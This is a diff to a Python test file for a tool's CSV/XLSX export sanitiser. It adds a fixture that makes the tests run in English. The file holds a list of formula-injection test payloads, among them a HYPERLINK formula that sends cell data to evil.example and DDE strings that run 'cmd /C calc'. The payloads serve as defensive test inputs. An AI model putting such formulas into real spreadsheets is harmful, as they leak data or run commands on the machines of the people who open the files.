@@ -19,6 +19,8 @@ from typer.testing import CliRunner
 from selector.cli import app
 from selector.sheets import FORMULA_START, csv_safe, is_formula_like, write_csv, write_xlsx
 
+pytestmark = pytest.mark.usefixtures("english")  # asserts English text: run in English (Chinese is the default)
+
 MINI = Path(__file__).parent / "data" / "mini"
 PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&C2,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)", "=1+1"]
